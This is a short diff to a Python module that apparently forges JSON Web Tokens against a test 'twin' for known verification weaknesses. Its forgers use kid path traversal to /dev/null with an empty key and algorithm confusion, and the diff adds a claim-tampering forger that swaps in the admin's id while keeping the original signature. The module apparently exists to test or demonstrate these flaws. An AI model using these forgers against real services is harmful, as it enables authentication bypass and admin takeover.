@@ -12,12 +12,13 @@ from typing import Any
 
 from cryptography.hazmat.primitives.asymmetric import rsa
 
-from .attacks import crack_hs256, forge_token, public_jwk, read_token, sign_rs256
+from .attacks import crack_hs256, forge_token, public_jwk, read_token, sign_rs256, tamper
 
 __all__ = [
     "ADMIN_ID",
     "forge_alg_confusion",
     "forge_alg_none",
+    "forge_claim_tampering",
     "forge_jwk_header",
     "forge_kid_path",
     "forge_unverified",
@@ -67,3 +68,8 @@ def forge_kid_path(claims: dict[str, Any]) -> str:
     """Weakness ``kid_path``: a ``kid`` that walks to ``/dev/null``, and ``claims`` signed with its content."""
     # Sixteen "../" reach "/" from any folder the twin's key folder can be in; more of them stay at "/".
     return forge_token({"alg": "HS256", "typ": "JWT", "kid": "../" * 16 + "dev/null"}, claims, b"")
+
+
+def forge_claim_tampering(seen: str) -> str:
+    """Weakness ``claim_tampering``: the admin's id in a token the twin has verified once, its signature kept."""
+    return tamper(seen, sub=ADMIN_ID)
